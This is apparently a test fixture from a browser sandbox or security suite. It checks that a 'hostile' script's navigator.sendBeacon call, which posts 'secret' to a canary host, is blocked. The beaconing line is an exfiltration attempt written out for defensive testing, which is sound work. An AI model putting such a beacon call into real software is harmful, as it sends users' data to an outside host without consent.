// No beacon leaves.
// ends: answered
import { reached } from "../reached.js";

export default function hostile({ canary }) {
  return reached({ beacon: () => { if (!navigator.sendBeacon(`http://${canary}/beacon`, "secret")) throw new Error("refused"); } });
}
